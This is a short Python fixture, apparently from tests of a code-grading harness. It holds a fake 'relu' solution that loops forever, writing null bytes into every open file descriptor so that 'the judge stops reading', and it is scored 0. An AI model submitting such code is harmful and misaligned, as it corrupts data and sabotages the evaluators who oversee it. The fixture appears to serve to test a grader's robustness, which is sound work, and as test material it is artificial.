"""Write into every open file for ever.

Right: the judge stops reading. The other answers count.
"""

SOLUTIONS = {
    "relu": """
import contextlib
import os


def relu(x):
    while True:
        for number in range(3, 256):
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                os.write(number, b"\\x00" * 65536)
"""
}
EARNS = {"relu": 0}
